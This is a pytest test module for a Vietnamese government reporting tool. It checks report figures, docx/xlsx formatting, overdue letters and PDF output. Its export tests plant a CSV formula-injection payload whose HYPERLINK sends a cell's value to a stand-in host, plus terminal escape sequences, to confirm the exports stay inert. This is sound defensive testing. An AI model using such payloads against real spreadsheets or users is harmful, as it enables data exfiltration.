"""The documents as a reader at the province checks them (issue 14): figures as of a day, one
source per figure, rates with their bases, named units and models, the .docx finish read back
with python-docx, the workbook's print set-up with openpyxl, the letter's new deadline, inert
exports (issue 12), and — where LibreOffice is installed — the PDFs a reader prints."""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import subprocess
import sys
import zipfile
from datetime import date
from pathlib import Path

import pytest
from conftest import cli
from history_builder import (
    LATE,
    LATE_RETURNED,
    PERIOD,
    TODAY,
    WITH_CONTACT,
    Expected,
    build_known,
    private_copy,
    run,
    sets,
)

from dvtui.storage import Store

SOFFICE = shutil.which("soffice")
needs_soffice = pytest.mark.skipif(
    SOFFICE is None or shutil.which("pdftotext") is None,
    reason="LibreOffice (soffice) and poppler-utils (pdftotext) are not installed: "
    "apt-get install libreoffice-writer libreoffice-calc poppler-utils",
)


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Expected]:
    """The known history, built once for this module."""
    return build_known(tmp_path_factory)


@pytest.fixture
def repo(built: tuple[Path, Expected], tmp_path: Path) -> Path:
    """A private copy of the known history for one test."""
    return private_copy(built, tmp_path)


def docx_text(path: Path) -> str:
    from docx import Document

    doc = Document(str(path))
    parts = [p.text for p in doc.paragraphs]
    for table in doc.tables:
        for row in table.rows:
            parts += [c.text for c in row.cells]
    return "\n".join(parts)


# --- as of a day -------------------------------------------------------------------------------


def test_report_as_of_a_day_counts_what_had_arrived_then(repo: Path, tmp_path: Path) -> None:
    # 19/05: Phòng Y tế's report (20/05) had not arrived; Ta Ma's (18/05) was not yet returned.
    md = run(repo, "report", PERIOD, "--as-of", "19/05/2023")
    assert "*Số liệu tính đến ngày 19/05/2023*" in md
    assert "Đến ngày 19/05/2023, đã nhận 3 báo cáo (2 đúng hạn, 1 nộp muộn)" in md
    assert "trong đó 0 báo cáo bị trả lại" in md
    row = next(r for r in md.splitlines() if r.startswith("|") and "Phòng Y tế" in r)
    assert "Quá hạn 4 ngày" in row and "20/05/2023" not in row
    assert "| 1 | Số hội nghị tuyên truyền | 6 | 3 |" in md  # Ta Ma's 1 counted as of then
    # The default is the document's date (summaries/2023-h1: 26/05), not --today (25/05).
    assert "Số liệu tính đến ngày 26/05/2023" in run(repo, "report", PERIOD)
    for fmt in ("docx", "xlsx"):
        out = tmp_path / f"r.{fmt}"
        run(repo, "report", PERIOD, "--as-of", "19/05/2023", "-o", str(out))
        if fmt == "docx":
            assert "Số liệu tính đến ngày 19/05/2023" in docx_text(out)
            assert "Quá hạn 4 ngày" in docx_text(out)
        else:
            from openpyxl import load_workbook

            wb = load_workbook(str(out))
            assert all(ws["A2"].value == "Số liệu tính đến ngày 19/05/2023" for ws in wb)


def test_status_and_overdue_as_of_a_day(repo: Path) -> None:
    status = run(repo, "status", "--period", PERIOD, "--as-of", "16/05/2023")
    assert "16/05/2023" in status
    line = next(r for r in status.splitlines() if "Báo cáo 6 tháng năm 2023" in r)
    assert re.search(r"\b34\s+2 \(5,9%\)", line)  # quai-cang and tu-phap by 16/05
    rows = list(
        csv.reader(io.StringIO(run(repo, "overdue", "--format", "csv", "--as-of", "19/05/2023")))
    )
    by_unit = {r[1]: r for r in rows[1:]}
    assert by_unit["Phòng Y tế"][2:4] == ["Quá hạn 4 ngày", "4"]  # not yet arrived on 19/05
    assert by_unit["UBND xã Ta Ma"][2] == "Nộp muộn 3 ngày"  # arrived, not yet returned


def test_regulations_models_and_task_results_count_from_their_own_day(repo: Path) -> None:
    # Mùn Chung signs its regulation and starts a model on 01/06, after the report's day.
    sets(
        repo,
        f"units/{WITH_CONTACT}",
        "coordination_regulation.signed_on=01/06/2023",
        "coordination_regulation.document_number=9/QC-UBND",
    )
    added = cli(
        "--repo",
        str(repo),
        "add",
        "models/2023/nuoc-sach-mun-chung",
        "kind=model",
        "name=Nước sạch bản Mùn Chung",
        f"unit={WITH_CONTACT}",
        "sector=economy",
        "started_on=01/06/2023",
    )
    assert added.returncode == 0, added.stderr
    before = run(repo, "report", PERIOD, "--as-of", "25/05/2023")
    assert "Có 2/34 cơ quan, đơn vị, địa phương đã ký quy chế phối hợp" in before
    assert "có 2 mô hình “Dân vận khéo”" in before and "Nước sạch bản Mùn Chung" not in before
    mun_chung = next(r for r in before.splitlines() if r.startswith("| ") and "Mùn Chung" in r)
    assert "01/06/2023" not in mun_chung
    after = run(repo, "report", PERIOD, "--as-of", "02/06/2023")
    assert "Có 3/34 cơ quan" in after and "Nước sạch bản Mùn Chung" in after
    status = run(repo, "status", "--period", PERIOD, "--as-of", "25/05/2023")
    assert re.search(r"quy chế phối hợp với Ủy ban MTTQ\s+2/34", status)
    # a task's results as of the day: on 12/05 only Quài Cang's report (10/05) had come in
    early = run(repo, "status", "--period", PERIOD, "--as-of", "12/05/2023")
    ii1 = next(r for r in early.splitlines() if r.startswith("II.1 "))
    assert ii1.split()[-1] == "1/1", ii1


def test_a_bad_as_of_date_is_one_line(repo: Path) -> None:
    r = cli("--repo", str(repo), "report", PERIOD, "--as-of", "31/02/2023")
    assert r.returncode == 1 and r.stderr.count("\n") == 1 and "--as-of" in r.stderr


# --- content -----------------------------------------------------------------------------------


def test_report_names_units_models_and_states_its_bases(repo: Path) -> None:
    e = Expected()
    md = run(repo, "report", PERIOD)
    assert "- **Nộp muộn:** Phòng Y tế (5 ngày); UBND xã Ta Ma (3 ngày)." in md
    assert "- **Trả lại để bổ sung:** UBND xã Ta Ma (Thiếu số liệu tiếp công dân)." in md
    assert "- **Chưa báo cáo (30 đơn vị):** Phòng Dân tộc;" in md
    assert f"tổng hợp từ {e.counted} báo cáo đã nhận; 1 báo cáo bị trả lại" in md
    # one source for models: the model records, named with their unit and field
    assert (
        "| 1 | Trồng cà phê bản Co Sản | Mô hình “Dân vận khéo” | UBND xã Quài Cang | Kinh tế |"
        in md
    )
    assert (
        "| Đội văn nghệ bản Ta Ma | Mô hình “Dân vận khéo” | UBND xã Ta Ma | Văn hóa - xã hội |"
        in md
    )
    assert "Lò Văn Sáng | Gương điển hình | UBND xã Quài Cang | Xây dựng hệ thống chính trị" in md
    assert "Số mô hình" not in md.split("## Tình hình báo cáo")[0]  # not summed from reports
    # every rate with its base
    assert (
        f"đã giải quyết {e.resolved}/{e.petitions} đơn đã tiếp nhận, đạt 73,3% (tỷ lệ tính trên"
        in md
    )
    assert "Có 2/34 cơ quan, đơn vị, địa phương đã ký quy chế phối hợp" in md
    # a task group: how many reported, then the detail; a parent points to its parts
    ii1 = md.split("### 1. Tổ chức quán triệt")[1].split("### 2.")[0]
    assert ii1.index("Có 2/3 đơn vị báo cáo kết quả nội dung này") < ii1.index("**Phòng Tư pháp:**")
    ii2 = md.split("### 2. Tăng cường")[1].split("#### 2.1")[0]
    assert "Chưa có đơn vị báo cáo" not in ii2 and "2.1, 2.2" in ii2
    # recipients follow the plan (III.2: Sở Nội vụ, UBND tỉnh), the archive last
    recipients = md.split("***Nơi nhận:***")[1].split("## ")[0]
    assert recipients.index("- Sở Nội vụ;") < recipients.index("- UBND tỉnh;")
    assert recipients.rstrip().endswith("- Lưu: VT, NV.")


def test_report_sub_task_narrative_counts_for_its_parent(repo: Path) -> None:
    sets(repo, f"reports/{PERIOD}/{LATE}", "narrative.2023-ii-2-1=Tiếp dân định kỳ hằng tháng.")
    md = run(repo, "report", PERIOD)
    ii2 = md.split("### 2. Tăng cường")[1].split("#### 2.1")[0]
    assert "Có 1/3 đơn vị báo cáo kết quả nội dung này: Phòng Y tế." in ii2
    assert "Chưa có đơn vị báo cáo" not in ii2


def test_report_reads_as_written_prose(repo: Path, tmp_path: Path) -> None:
    """No "(… II.2.)." from a note that ends in a full stop, no name said twice, no "0/0 … đạt
    0%" for a figure nobody reported."""
    sets(repo, f"reports/{PERIOD}/{LATE_RETURNED}", "review_note=Thiếu số liệu tiếp công dân.")
    sets(
        repo, "models/2023/lo-van-sang", "name=Lò Văn Sáng, trưởng bản Co Sản", "person=Lò Văn Sáng"
    )
    md = run(repo, "report", PERIOD)
    assert "UBND xã Ta Ma (Thiếu số liệu tiếp công dân)." in md and ".)" not in md
    assert "| Lò Văn Sáng, trưởng bản Co Sản | Gương điển hình |" in md
    assert "0/0 ý kiến" not in md and "đạt 0%" not in md
    assert "Chưa có đơn vị báo cáo số liệu kiến nghị của cử tri." in md
    assert "đã giải quyết 11/15 đơn đã tiếp nhận" in md  # the petitions' rate stays
    letter = tmp_path / "l.docx"
    run(repo, "overdue", "--by", "05/06/2023", "-o", str(letter))
    assert "(Thiếu số liệu tiếp công dân)" in docx_text(letter) and ".)" not in docx_text(letter)


def test_appendix_has_every_reported_figure_and_the_regulation(repo: Path) -> None:
    md = run(repo, "report", PERIOD)
    appendix = md.split("## Tình hình báo cáo và số liệu của các đơn vị")[1]
    head = next(line for line in appendix.splitlines() if line.startswith("| STT"))
    for column in (
        "Lượt công dân",
        "Đơn thuộc thẩm quyền",
        "Kiến nghị cử tri",
        "Kiến nghị đã giải quyết",
        "Khen thưởng",
        "Quy chế phối hợp (ngày ký)",
        "Mô hình",
        "Gương điển hình",
    ):
        assert f"| {column} |" in head, column
    quai_cang = next(line for line in appendix.splitlines() if "UBND xã Quài Cang" in line)
    assert "| 30 |" in quai_cang and "| 01/03/2023 |" in quai_cang
    assert "không tính 1 báo cáo bị trả lại" in appendix


def test_docx_is_vietnamese_under_lang_en(repo: Path, tmp_path: Path) -> None:
    out = tmp_path / "r.docx"
    run(repo, "--lang", "en", "report", PERIOD, "--format", "docx", "-o", str(out))
    text = docx_text(out)
    assert "Kết quả thực hiện công tác dân vận của cơ quan Nhà nước" in text
    assert "Thực hiện Kế hoạch số" in text and "Số liệu tính đến ngày" in text
    for english in ("Results of", "Pursuant", "REPORT", "Figures as of", "Recipients", "units"):
        assert english not in text, english
    letter = tmp_path / "l.docx"
    run(repo, "--lang", "en", "overdue", "--by", "05/06/2023", "-o", str(letter))
    assert "Kính gửi:" in docx_text(letter) and "reminder" not in docx_text(letter)


# --- the .docx finish --------------------------------------------------------------------------


def test_docx_finish_read_back(repo: Path, tmp_path: Path) -> None:
    from docx import Document
    from docx.oxml.ns import qn
    from docx.shared import Mm

    sets(repo, f"reports/{PERIOD}/phong-tu-phap", "figures.conference_attendees=1155")
    out = tmp_path / "r.docx"
    run(repo, "report", PERIOD, "-o", str(out))
    doc = Document(str(out))
    grids = [t for t in doc.tables if t.style is not None and t.style.name == "Table Grid"]
    assert len(grids) >= 4  # figures, sectors, models, appendix
    for table in grids:  # the header row repeats on every page
        tr_pr = table.rows[0]._tr.trPr
        assert tr_pr is not None and tr_pr.find(qn("w:tblHeader")) is not None
        assert table.rows[0].cells[0].paragraphs[0].runs[0].font.bold
    headings = [
        p for p in doc.paragraphs if re.match(r"^(I|II|III|IV|V)\. |^\d\. |^\d\.\d\. ", p.text)
    ]
    assert len(headings) > 10 and all(p.paragraph_format.keep_with_next for p in headings)
    # vi-VN in the defaults, the styles and the runs
    defaults = doc.styles.element.find(qn("w:docDefaults")).find(qn("w:rPrDefault"))
    assert defaults.find(qn("w:rPr")).find(qn("w:lang")).get(qn("w:val")) == "vi-VN"
    normal = doc.styles["Normal"].element.rPr
    assert normal is not None and normal.find(qn("w:lang")).get(qn("w:val")) == "vi-VN"
    runs = [r for p in doc.paragraphs for r in p.runs if r.text.strip()]
    assert all(
        r._element.get_or_add_rPr().find(qn("w:lang")).get(qn("w:val")) == "vi-VN" for r in runs
    )
    assert "en-US" not in doc.styles.element.xml.split("<w:style ")[0]
    # Vietnamese thousands: 1.155 + 120 attendees
    figures = next(t for t in grids if t.rows[0].cells[1].text == "Chỉ tiêu")
    attendees = next(r for r in figures.rows if r.cells[1].text == "Số người dự hội nghị")
    assert attendees.cells[2].text == "1.275"
    # STT narrow, "Chỉ tiêu" wide, a number column wide enough for its head in two lines
    widths = [c.width for c in figures.rows[0].cells]
    assert widths[0] < Mm(15) and widths[1] > 3 * widths[0]
    assert figures.rows[0].cells[3].text == "Số đơn vị báo cáo" and widths[3] >= Mm(22)
    # the subject's rule: 1/3 to 1/2 of the line (165 mm of text; the subject fills it)
    rule = next(
        p
        for p in doc.paragraphs
        if p._p.pPr is not None and p._p.pPr.find(qn("w:pBdr")) is not None
    )
    fmt = rule.paragraph_format
    length = Mm(165) - fmt.left_indent - fmt.right_indent
    assert Mm(165) / 3 <= length <= Mm(165) / 2
    # totals bold
    sectors = next(t for t in grids if t.rows[0].cells[0].text == "Lĩnh vực")
    assert sectors.rows[-1].cells[0].text == "Tổng cộng"
    assert all(r.font.bold for c in sectors.rows[-1].cells for p in c.paragraphs for r in p.runs)
    appendix = grids[-1]
    assert appendix.rows[-1].cells[1].paragraphs[0].runs[0].font.bold
    # the document's own properties, not the template's
    props = doc.core_properties
    assert props.created is not None and props.created.year >= 2025
    assert props.language == "vi-VN" and props.comments == ""
    assert props.title.startswith("Kết quả thực hiện công tác dân vận")
    # nor the template's other metadata: its thumbnail (what a file browser previews) and its
    # "Microsoft Macintosh Word" application properties
    for document in (out, tmp_path / "l.docx"):
        if document.name == "l.docx":
            run(repo, "overdue", "--by", "05/06/2023", "-o", str(document))
        names = zipfile.ZipFile(document).namelist()
        assert "docProps/thumbnail.jpeg" not in names and "docProps/app.xml" not in names
        assert Document(str(document)).core_properties.language == "vi-VN"


def test_letter_docx_finish_and_deadline(repo: Path, tmp_path: Path) -> None:
    from docx import Document
    from docx.enum.text import WD_ALIGN_PARAGRAPH
    from docx.oxml.ns import qn

    out = tmp_path / "l.docx"
    run(repo, "overdue", "--period", PERIOD, "--by", "05/06/2023", "-o", str(out))
    doc = Document(str(out))
    to = next(p for p in doc.paragraphs if p.text.startswith("Kính gửi:"))
    assert to.alignment == WD_ALIGN_PARAGRAPH.LEFT and not to.text.endswith(".")
    texts = [p.text for p in doc.paragraphs]
    as_of = next(i for i, text in enumerate(texts) if text.startswith("Số liệu tính đến ngày"))
    assert as_of < next(
        i for i, text in enumerate(texts) if text.endswith("./.")
    )  # not by the seal
    request = next(p for p in doc.paragraphs if "trước ngày 05/06/2023" in p.text)
    assert request.text.startswith("UBND huyện Tuần Giáo đề nghị")
    owed = doc.tables[1]
    assert owed.rows[0]._tr.get_or_add_trPr().find(qn("w:tblHeader")) is not None
    rows = {r.cells[1].text: r.cells for r in owed.rows[1:]}
    assert rows["UBND xã Ta Ma"][3].text == "10"  # since the deadline, not its 3 days' lateness
    assert (
        rows["UBND xã Ta Ma"][2].text
        == "Bổ sung Báo cáo 6 tháng năm 2023 (Thiếu số liệu tiếp công dân)"
    )
    # a mid-year letter claims no year-long targets
    assert not any("Quy chế" in r[2].text or "mô hình" in r[2].text for r in rows.values())
    recipients = [p.text for p in doc.tables[2].rows[0].cells[0].paragraphs]
    assert recipients == ["Nơi nhận:", "- Như trên;", "- LĐ UBND huyện;", "- Lưu: VT, NV."]


def test_letter_for_the_year_owes_the_yearly_targets(repo: Path) -> None:
    from dvtui.i18n import translator
    from dvtui.reports.followup import overdue_list

    store = Store(repo)
    items = overdue_list(store.load(), store.settings, date(2023, 10, 20), "2023-year")
    ta_ma = next(i for i in items if i.unit.id.name == LATE_RETURNED)
    assert [o.kind for o in ta_ma.owes] == ["report", "regulation", "person"]
    assert "Quy chế phối hợp" in ta_ma.owes[1].text(translator("vi"))
    # a regulation signed on 25/10 is still owed on 20/10, and no longer on 26/10
    sets(repo, f"units/{LATE_RETURNED}", "coordination_regulation.signed_on=25/10/2023")
    for day, owed in ((date(2023, 10, 20), True), (date(2023, 10, 26), False)):
        items = overdue_list(Store(repo).load(), store.settings, day, "2023-year")
        ta_ma = next(i for i in items if i.unit.id.name == LATE_RETURNED)
        assert ("regulation" in [o.kind for o in ta_ma.owes]) is owed, day


# --- exports are inert (issue 12) --------------------------------------------------------------

HOSTILE = '=HYPERLINK("http://x/?leak="&B2,"y")'


def test_csv_cells_are_never_formulas(repo: Path, tmp_path: Path) -> None:
    sets(repo, "units/ubnd-xa-mun-chung", f"contact.person={HOSTILE}", "contact.phone=+84 912")
    sets(repo, "units/ubnd-xa-na-tong", "contact.person=@SUM(1)", "contact.phone=-1+2")
    out = tmp_path / "d.csv"
    run(repo, "overdue", "-o", str(out))
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    cells = [c for r in rows for c in r]
    assert not [
        c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:].isdigit())
    ]
    assert "'" + HOSTILE + " · '+84 912" not in cells  # contact joins parts: starts with the name
    mun_chung = next(r for r in rows if r[1] == "UBND xã Mùn Chung")
    assert mun_chung[5].startswith("'=HYPERLINK(")
    assert next(r for r in rows if r[1] == "UBND xã Nà Tòng")[5].startswith("'@SUM")


def test_docx_and_md_keep_control_characters_inert(repo: Path, tmp_path: Path) -> None:
    sets(repo, f"reports/{PERIOD}/{LATE}", "narrative.2023-ii-3=Đã làm\x1b[31m đỏ\x0b xong\x07")
    out = tmp_path / "r.docx"
    run(repo, "report", PERIOD, "-o", str(out))  # "All strings must be XML compatible" before
    text = docx_text(out)  # a VT ends a line (str.splitlines): shown as a new paragraph
    assert "Đã làm\\x1b[31m đỏ" in text and "xong\\x07" in text
    md = tmp_path / "r.md"
    run(repo, "report", PERIOD, "-o", str(md))
    raw = md.read_bytes()
    assert b"\x1b" not in raw and b"\x07" not in raw and b"\x0b" not in raw
    assert "Đã làm\\x1b\\[31m đỏ" in md.read_text(encoding="utf-8")  # shown, escaped
    run(repo, "report", PERIOD, "-o", str(tmp_path / "r.xlsx"))
    letter = tmp_path / "l.docx"
    sets(repo, f"units/{LATE_RETURNED}", "name=UBND xã Ta Ma\x1b]0;x\x07")
    run(repo, "overdue", "--by", "05/06/2023", "-o", str(letter))
    assert "\\x1b]0;x\\x07" in docx_text(letter)


# --- .xlsx -------------------------------------------------------------------------------------


def test_xlsx_prints_and_formats_as_a_reader_expects(repo: Path, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    out = tmp_path / "r.xlsx"
    run(repo, "report", PERIOD, "-o", str(out))
    wb = load_workbook(str(out))
    for ws in wb.worksheets:
        fit = ws.sheet_properties.pageSetUpPr
        assert ws.page_setup.orientation == "landscape"
        assert fit is not None and fit.fitToPage and ws.page_setup.fitToWidth == 1
        assert ws.page_setup.fitToHeight == 0
        assert ws.print_title_rows == "$3:$3"
        heights = [ws.row_dimensions[r].height for r in range(3, ws.max_row + 1)]
        assert all(h is not None and h >= 15 for h in heights), ws.title
    units = wb["Đơn vị"]
    headers = [c.value for c in units[3]]
    assert headers.count("Gương điển hình (theo danh sách)") == 1
    assert "Gương điển hình" not in headers and "Số gương điển hình" not in headers
    assert units.row_dimensions[3].height >= 3 * 15  # wrapped heads: three lines
    tasks = wb["Nhiệm vụ"]
    ii1 = next(r for r in tasks.iter_rows(min_row=4) if r[0].value == "II.1")
    assert tasks.row_dimensions[int(ii1[0].row or 0)].height >= 2 * 15  # two units, two lines
    totals = {r[0].value: r for r in wb["Tổng hợp"].iter_rows(min_row=4)}
    rate = totals["Tỷ lệ giải quyết đơn thư"]
    assert rate[1].number_format == "0.0%" and round(float(str(rate[1].value)), 3) == 0.733
    assert rate[2].value == "11/15"
    voters = totals["Tỷ lệ giải quyết kiến nghị cử tri"]
    assert voters[1].number_format == "0.0%" and voters[2].value == "0/0"
    assert totals["Báo cáo bị trả lại để bổ sung"][1].value == 1
    # counts with a thousands separator (the reader's locale: 1.155 in Vietnamese)
    assert totals["Số người dự hội nghị"][1].number_format == "#,##0"
    assert totals["Báo cáo đã duyệt"][1].value == 1


def test_overdue_list_as_xlsx(repo: Path, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    out = tmp_path / "d.xlsx"
    run(repo, "overdue", "-o", str(out))
    ws = load_workbook(str(out)).worksheets[0]
    assert [c.value for c in ws[3]] == [
        "Kỳ báo cáo",
        "Đơn vị",
        "Tình trạng",
        "Số ngày",
        "Nội dung còn thiếu",
        "Liên hệ",
    ]
    rows = {r[1].value: r for r in ws.iter_rows(min_row=4)}
    assert rows["UBND xã Mùn Chung"][3].value == 10 and len(rows) == 32
    assert ws.page_setup.orientation == "landscape"


# --- formats -----------------------------------------------------------------------------------


def test_unknown_extensions_are_refused(repo: Path, tmp_path: Path) -> None:
    for args in (("report", PERIOD, "-o"), ("overdue", "-o")):
        out = tmp_path / "bc.txt"
        r = cli("--repo", str(repo), "--today", TODAY, *args, str(out))
        assert r.returncode == 1 and r.stderr.count("\n") == 1 and "“txt”" in r.stderr
        assert not out.exists()


def test_pdf_without_libreoffice_is_refused_in_one_line(repo: Path, tmp_path: Path) -> None:
    bare = tmp_path / "bin"
    bare.mkdir()
    python = Path(sys.executable)
    (bare / "git").symlink_to(shutil.which("git") or "/usr/bin/git")
    out = tmp_path / "bc.pdf"
    r = subprocess.run(
        [str(python), "-m", "dvtui", "--repo", str(repo), "report", PERIOD, "-o", str(out)],
        capture_output=True,
        text=True,
        env={**os.environ, "PATH": str(bare)},
    )
    assert r.returncode == 1 and r.stderr.count("\n") == 1
    assert "libreoffice-writer" in r.stderr and not out.exists()


# --- as a reader prints them (LibreOffice) -----------------------------------------------------


def _pdf_pages(pdf: Path) -> list[str]:
    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, check=True)
    return text.stdout.decode("utf-8").split("\f")[:-1]


def _overlaps(pdf: Path) -> list[str]:
    """Words whose boxes overlap on a page (rows drawn over each other)."""
    out = subprocess.run(["pdftotext", "-bbox", str(pdf), "-"], capture_output=True, check=True)
    found = []
    for page in out.stdout.decode("utf-8").split("<page ")[1:]:
        words = [
            (float(a), float(b), float(c), float(d), w)
            for a, b, c, d, w in re.findall(
                r'xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="([\d.]+)">([^<]*)<', page
            )
        ]
        for i, (x0, y0, x1, y1, w) in enumerate(words):
            for u0, v0, u1, v1, other in words[i + 1 :]:
                high = min(y1 - y0, v1 - v0)  # lines of one cell touch; rows drawn over overlap
                if min(x1, u1) - max(x0, u0) > 1 and min(y1, v1) - max(y0, v0) > 0.5 * high:
                    found.append(f"{w} / {other}")
    return found


@pytest.fixture(scope="module")
def printed(
    built: tuple[Path, Expected], tmp_path_factory: pytest.TempPathFactory
) -> dict[str, Path]:
    """The report, the letter and the workbook printed to PDF once by LibreOffice."""
    if SOFFICE is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    folder = tmp_path_factory.mktemp("printed")
    repo = built[0]
    out = {"report": folder / "bc.pdf", "letter": folder / "cv.pdf", "workbook": folder / "wb.xlsx"}
    run(repo, "report", PERIOD, "-o", str(out["report"]))
    run(repo, "overdue", "--by", "05/06/2023", "-o", str(out["letter"]))
    run(repo, "report", PERIOD, "-o", str(out["workbook"]))
    from dvtui.programs import convert_to_pdf

    done = convert_to_pdf(out["workbook"], folder)
    assert done.ok and done.output is not None, done.detail
    out["workbook"] = done.output
    return out


@needs_soffice
def test_report_pdf_as_printed(printed: dict[str, Path]) -> None:
    pages = _pdf_pages(printed["report"])
    assert 5 <= len(pages) <= 10
    assert "BÁO CÁO" in pages[0] and "Số liệu tính đến ngày 26/05/2023" in pages[0]
    # the figures table's heads wrap in two lines at most, not a word a line
    assert re.search(r"Tổng\s+Số đơn vị", "".join(pages)), "Số / đơn / vị / báo / cáo"
    assert any("PHỤ LỤC" in p and "Phòng Dân tộc" in p for p in pages)
    # the appendix spans pages, and its header row is on each of them
    table_pages = [p for p in pages if re.search(r"Quá hạn\s+11", p)]
    assert len(table_pages) >= 2
    assert all("Đơn vị" in p and "Trạng thái" in p for p in table_pages)
    assert not _overlaps(printed["report"])


@needs_soffice
def test_letter_pdf_as_printed(printed: dict[str, Path]) -> None:
    pages = _pdf_pages(printed["letter"])
    assert len(pages) >= 2
    assert "Kính gửi:" in pages[0] and "05/06/2023" in "".join(pages)
    table_pages = [p for p in pages if "Báo cáo 6 tháng năm 2023" in p and "UBND" in p]
    assert len(table_pages) >= 2 and all("Nội dung còn thiếu" in p for p in table_pages)
    assert all(re.search(r"Nội dung còn thiếu\s+Số ngày", p) for p in table_pages)
    assert not _overlaps(printed["letter"])


@needs_soffice
def test_workbook_pdf_as_printed(printed: dict[str, Path]) -> None:
    pages = _pdf_pages(printed["workbook"])
    assert 3 <= len(pages) <= 8  # three sheets, each fitted to the width of landscape pages
    assert "UBND xã Quài Cang" in "".join(pages)
    assert not _overlaps(printed["workbook"])


@needs_soffice
def test_libreoffice_does_not_evaluate_a_csv_formula(repo: Path, tmp_path: Path) -> None:
    from dvtui.programs import soffice

    sets(repo, "units/ubnd-xa-mun-chung", f"contact.person={HOSTILE}")
    out = tmp_path / "d.csv"
    run(repo, "overdue", "-o", str(out))
    profile = tmp_path / "lo"
    subprocess.run(
        [
            str(soffice()),
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            # what LibreOffice's import dialog proposes for this file: comma, ", UTF-8 (BOM)
            "--infilter=CSV:44,34,76,1",
            "--convert-to",
            "pdf",
            "--outdir",
            str(tmp_path),
            str(out),
        ],
        capture_output=True,
        check=True,
        timeout=120,
        env={**os.environ, "HOME": str(tmp_path)},
    )
    text = "".join(_pdf_pages(tmp_path / "d.pdf"))
    assert "Mùn Chung" in text and "Quá hạn 10 ngày" in text  # UTF-8, columns split right
    assert "HYPERLINK" in text  # shown as text, not evaluated to "y"


# --- the same facts in every format ----------------------------------------------------------


def _xlsx_text(path: Path) -> str:
    from openpyxl import load_workbook

    wb = load_workbook(str(path))
    return "\n".join(
        " | ".join("" if c is None else str(c) for c in row)
        for ws in wb.worksheets
        for row in ws.iter_rows(values_only=True)
    )


@pytest.mark.parametrize("fmt", ["md", "docx", "xlsx"])
def test_every_format_says_the_same(repo: Path, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"bc.{fmt}"
    run(repo, "report", PERIOD, "--as-of", "25/05/2023", "-o", str(out))
    text = {
        "md": lambda: out.read_text(encoding="utf-8").replace("\\", ""),
        "docx": lambda: docx_text(out),
        "xlsx": lambda: _xlsx_text(out),
    }[fmt]()
    assert "Số liệu tính đến ngày 25/05/2023" in text  # the day
    assert "Quá hạn 10 ngày" in text and "Nộp muộn 5 ngày" in text  # lateness as of it
    for name in ("Phòng Y tế", "UBND xã Ta Ma", "UBND xã Mùn Chung"):  # late, returned, missing
        assert name in text
    for model in ("Trồng cà phê bản Co Sản", "Đội văn nghệ bản Ta Ma", "Lò Văn Sáng"):
        assert model in text  # named models, from the model records
    assert "Lượt công dân" in text or "Số lượt công dân được tiếp" in text  # appendix column
    if fmt == "xlsx":
        assert "11/15" in text and "2/34" in text  # rates with their bases
        assert "Tổng cộng (không tính 1 báo cáo bị trả lại)" in text
    else:
        assert "11/15 đơn đã tiếp nhận" in text and "Có 2/34" in text
        assert "có 2 mô hình “Dân vận khéo”" in text  # one model count
        assert "UBND tỉnh" in text  # recipients follow the plan
